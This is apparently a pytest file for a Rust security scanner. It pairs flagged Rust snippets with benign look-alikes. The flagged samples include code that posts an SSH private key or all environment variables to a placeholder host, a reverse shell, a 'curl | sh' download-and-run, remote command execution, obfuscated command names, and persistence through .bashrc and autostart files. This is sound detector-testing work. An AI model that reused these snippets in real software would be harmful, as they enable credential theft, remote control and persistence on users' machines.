"""Pairs of Rust code: what must be found, and what is like it and right."""

from __future__ import annotations

import pytest
from goobits_scanner._languages import evaluate
from goobits_scanner._rules._index import index
from goobits_scanner._watch import Watch

RUN = "use std::process::Command;\n"
B64 = "use base64::{engine::general_purpose::STANDARD, Engine as _};\n"
FILE = 'std::fs::read("/home/u/.ssh/id_rsa").unwrap()'
# (rule, bad, good) or (rule, bad, good, name of the file)
PAIRS = [
    ("command-shell",
     RUN + 'fn f(n: &str) { Command::new("sh").env("A", "b").arg("-c").arg(format!("ls {n}")); }',
     RUN + 'fn f(n: &str) { Command::new("ls").env("A", "b").arg("-l").arg(n); }'),
    ("command-shell",
     RUN + 'fn f(n: &str) { let mut c = Command::new("sh"); c.arg("-c"); c.arg(n); }',
     RUN + 'fn f(n: &str) { let mut c = Command::new("ls"); c.arg("-l"); c.arg(n); }'),
    ("command-shell",
     RUN + 'fn f(n: &str) { let mut s = String::from("ls "); s.push_str(n);'
     ' Command::new("sh").args(["-c", &s]); }',
     RUN + 'fn f(n: &str) { let mut s = String::from("ls "); s.push_str("x");'
     ' Command::new("ls").args(["-l", &s]); }'),
    ("program-chosen",
     RUN + "fn f(n: &str) { Command::new(n); }",
     RUN + 'fn f(n: u8) { let p = if n > 1 { "ls" } else { "ls" }; Command::new(p); }'),
    ("weak-hash", "use md5::Md5;\nfn f() { let h = Md5::new(); }",
     "use sha2::Sha256;\nfn f() { let h = Sha256::new(); }"),
    ("weak-hash", "use sha1::{Digest, Sha1 as Hash};\nfn f(d: &[u8]) { Hash::digest(d); }",
     "use sha2::{Digest, Sha256 as Hash};\nfn f(d: &[u8]) { Hash::digest(d); }"),
    ("short-key", "fn f(p: &[u8], o: &mut [u8]) { pbkdf2::pbkdf2_hmac::<S>(p, b\"s\", 1_000, o); }",
     "fn f(p: &[u8], o: &mut [u8]) { pbkdf2::pbkdf2_hmac::<S>(p, b\"s\", 600_000, o); }"),
    ("short-key", "fn f() { openssl::rsa::Rsa::generate(1024)?; }",
     "fn f() { openssl::rsa::Rsa::generate(3072)?; }"),
    ("fixed-iv-or-key", "use aes_gcm::Nonce;\nfn f() { let n = [0u8; 12]; Nonce::from_slice(&n); }",
     "use aes_gcm::Nonce;\nfn f() { let n = make(); Nonce::from_slice(&n); }"),
    ("weak-cipher", "fn f() { let c = openssl::symm::Cipher::aes_256_ecb(); }",
     "fn f() { let c = openssl::symm::Cipher::aes_256_gcm(); }"),
    ("tls-not-verified",
     "fn f() { reqwest::Client::builder()\n  .danger_accept_invalid_certs(true)\n  .build(); }",
     "fn f() { reqwest::Client::builder()\n  .danger_accept_invalid_certs(false)\n  .build(); }"),
    ("tls-not-verified", "fn f() { c.tls_danger_accept_invalid_hostnames(true); }",
     "fn f() { c.tls_danger_accept_invalid_hostnames(false); }"),
    ("tls-not-verified", "fn f() { TlsConfig::builder().disable_verification(true); }",
     "fn f() { TlsConfig::builder().disable_verification(false); }"),
    ("tls-not-verified",
     ("use rustls::client::danger::{ServerCertVerified, ServerCertVerifier};\n"
     "impl ServerCertVerifier for A { fn verify(&self) { Ok(ServerCertVerified::assertion()) } }"),
     ("use rustls::client::danger::{ServerCertVerified, ServerCertVerifier};\n"
     "impl ServerCertVerifier for A { fn verify(&self) { self.inner.verify() } }")),
    ("sql-built-query",
     'fn f(c: &C, n: &str) { c.exec_drop(format!("SELECT a FROM b WHERE c = \'{n}\'"), ()); }',
     'fn f(c: &C, n: &str) { c.exec_drop("SELECT a FROM b WHERE c = ?", (n,)); }'),
    ("sql-built-query",
     ("fn f(n: &str) { let mut q = String::new();"
     ' write!(q, "DELETE FROM a WHERE b = {}", n).unwrap(); sqlx::query(&q); }'),
     ("fn f(n: &str) { let mut q = String::new();"
     ' write!(q, "DELETE FROM a WHERE b = {}", 7).unwrap(); sqlx::query(&q); }')),
    ("path-from-input",
     "use axum::extract::Path;\nasync fn f(Path(p): Path<String>) { std::fs::rename(&p, \"b\"); }",
     ("use axum::extract::Path;\nasync fn f(Path(p): Path<u32>) {"
     ' std::fs::rename(format!("{p}"), "b"); }')),
    ("path-from-input",
     "use actix_web::web;\nasync fn f(q: web::Query<Q>) { std::fs::remove_file(&q.name); }",
     "use actix_web::web;\nasync fn f(q: web::Query<Q>) { std::fs::remove_file(\"a\"); }"),
    ("object-from-text", "fn f(d: &[u8]) { unsafe { rkyv::access_unchecked::<A>(d) }; }",
     "fn f(d: &[u8]) { rkyv::access::<A, E>(d); }"),
    ("html-unescaped",
     ("use axum::{extract::Query, response::Html};\n"
     'async fn f(Query(q): Query<Q>) { Html(format!("<b>{}", q.name)); }'),
     ("use axum::{extract::Query, response::Html};\n"
     "async fn f(Query(q): Query<Q>) { Html(q.render().unwrap()); }")),
    ("permissions-too-wide", "use std::fs::Permissions;\nfn f() { Permissions::from_mode(0o777); }",
     "use std::fs::Permissions;\nfn f() { Permissions::from_mode(0o600); }"),
    ("unsafe-memory", "use std::mem;\nfn f(x: u32) -> f32 { unsafe { mem::transmute(x) } }",
     "fn f(x: u32) -> f32 { f32::from_bits(x) }"),
    ("unsafe-block", "unsafe impl Send for A {}", "impl Clone for A {}"),
    ("token-not-verified", "fn f(v: &mut V) { v.insecure_disable_signature_validation(); }",
     "fn f(v: &mut V) { v.set_audience(&[\"a\"]); }"),
    ("cors-open", "use tower_http::cors::CorsLayer;\nfn f() { CorsLayer::permissive(); }",
     "use tower_http::cors::CorsLayer;\nfn f() { CorsLayer::new(); }"),
    ("decoded-command",
     RUN + "const D: [u8; 3] = [0x39, 0x2f, 0x28];\nfn o(d: &[u8]) -> String"
     " { d.iter().map(|b| (b ^ 0x5a) as char).collect() }\nfn f() { Command::new(o(&D)); }",
     RUN + "fn f() { Command::new(name()); }"),
    ("decoded-command",
     RUN + B64 + 'fn f() { let d = STANDARD.decode("Y3VybA==").unwrap();'
     " Command::new(String::from_utf8(d).unwrap()); }",
     RUN + B64 + 'fn f() { let d = STANDARD.encode("curl"); Command::new("curl"); }'),
    ("decoded-command",
     RUN + 'fn f() { Command::new("lruc".chars().rev().collect::<String>()); }',
     RUN + 'fn f() { Command::new("curl".chars().collect::<String>()); }'),
    ("decoded-command",
     RUN + "fn f() { let mut s = String::new();"
     " for b in [57, 47, 40] { s.push((b ^ 0x5au8) as char); } Command::new(s); }",
     RUN + 'fn f() { let mut s = String::new(); for b in ["l", "s"] { s.push_str(b); }'
     " Command::new(s); }"),
    ("decoded-address",
     "fn f() { std::net::TcpStream::connect(String::from_utf8(vec![97, 46, 98]).unwrap()); }",
     'fn f() { std::net::TcpStream::connect("a.invalid:1"); }'),
    ("build-script-network", "fn main() { tokio::net::TcpStream::connect(\"a.invalid:1\"); }",
     'fn main() { println!("cargo:rerun-if-changed=a.c"); }', "build.rs"),
    ("build-script-shell",
     RUN + "fn run() { Command::new(\"sh\").arg(\"-c\"); }\n"
     "#[proc_macro]\npub fn m(i: TokenStream) -> TokenStream { run(); i }",
     RUN + "fn run() { Command::new(\"sh\").arg(\"-c\"); }"),
    ("download-piped",
     RUN + 'fn f() { Command::new("sh").args(["-c", "curl http://a.invalid/x | sh"]); }',
     RUN + 'fn f() { Command::new("sh").args(["-c", "echo curl and sh"]); }'),
    ("private-data-sent",
     f'fn f() {{ minreq::post("http://a.invalid").with_body({FILE}).send(); }}',
     'fn f() { minreq::post("http://a.invalid").with_body("hello").send(); }'),
    ("private-data-sent",
     ("fn f() { let mut b = String::new();"
     ' std::fs::File::open("/home/u/.ssh/id_rsa").unwrap().read_to_string(&mut b).unwrap();'
     ' ureq::post("http://a.invalid").send_string(&b); }'),
     ("fn f() { let mut b = String::new();"
     ' std::fs::File::open("notes.md").unwrap().read_to_string(&mut b).unwrap();'
     ' ureq::post("http://a.invalid").send_string(&b); }')),
    ("private-data-sent",
     (f"struct A {{ d: Vec<u8> }}\nimpl A {{ fn new() -> Self {{ Self {{ d: {FILE} }} }}\n"
     ' fn go(&self) { ureq::post("http://a.invalid").send_bytes(&self.d); } }\n'
     "fn f() { let a = A::new(); a.go(); }"),
     ("struct A { d: Vec<u8> }\nimpl A { fn new() -> Self { Self { d: vec![1] } }\n"
     ' fn go(&self) { ureq::post("http://a.invalid").send_bytes(&self.d); } }\n'
     "fn f() { let a = A::new(); a.go(); }")),
    ("environment-sent",
     ("fn f() { let all: Vec<_> = std::env::vars().map(|(k, v)| format!(\"{k}={v}\")).collect();"
     ' reqwest::blocking::Client::new().post("http://a.invalid").body(all.join(";")).send(); }'),
     ('fn f() { let all: Vec<_> = ["a"].iter().map(|k| format!("{k}=1")).collect();'
     ' reqwest::blocking::Client::new().post("http://a.invalid").body(all.join(";")).send(); }')),
    ("remote-command",
     RUN + 'fn f() { let t = reqwest::blocking::get("http://a.invalid").unwrap().text().unwrap();'
     ' Command::new("sh").current_dir("/").arg("-c").arg(t); }',
     RUN + 'fn f() { let t = reqwest::blocking::get("http://a.invalid").unwrap().text().unwrap();'
     ' Command::new("sh").current_dir("/").arg("-c").arg("ls"); }'),
    ("startup-file-written",
     'fn f(h: &str) { std::fs::write(format!("{h}/.config/autostart/a.desktop"), "x"); }',
     'fn f(h: &str) { std::fs::write(format!("{h}/.config/app/a.toml"), "x"); }'),
    ("shell-file-written",
     'fn f(h: &Path) { std::fs::OpenOptions::new().append(true).open(h.join(".bashrc")); }',
     'fn f(h: &Path) { std::fs::OpenOptions::new().append(true).open(h.join("a.log")); }'),
    ("memory-made-executable", "fn f(p: *mut u8) { unsafe { libc::mprotect(p, 1, 7); } }",
     "fn f(p: *mut u8) { unsafe { libc::mprotect(p, 1, 1); } }"),
    ("library-from-elsewhere",
     'fn f() { unsafe { libloading::Library::new(std::env::temp_dir().join("a.so")) }; }',
     'fn f() { unsafe { libloading::Library::new("libm.so.6") }; }'),
    ("reverse-shell",
     RUN + 'fn f() { let s = std::net::TcpStream::connect("a.invalid:1").unwrap();'
     ' Command::new("sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(s.as_raw_fd()) }); }',
     RUN + 'fn f() { Command::new("sh").arg("-i").stdin(Stdio::null()); }'),
    ("key-file-read", f"fn f() {{ let k = {FILE}; }}",
     'fn f() { let k = std::fs::read("/home/u/.ssh/known_hosts").unwrap(); }'),
]  # fmt: skip


def found(code: str, name: str) -> set[str]:
    watch = Watch(index("rust"), name, code.split("\n"))
    outcome = evaluate("rust", code.encode(), watch, name, lambda: False)
    watch.end()
    assert outcome.problem == ""
    return {finding.rule for finding in watch.findings.values()}


@pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: pair[0])
def test_bad_is_found_and_good_is_not(pair: tuple[str, ...]) -> None:
    """A rule is worth having only where it tells the two apart."""
    rule, bad, good, *name = pair
    assert rule in found(bad, *name or ["a.rs"])
    assert rule not in found(good, *name or ["a.rs"])
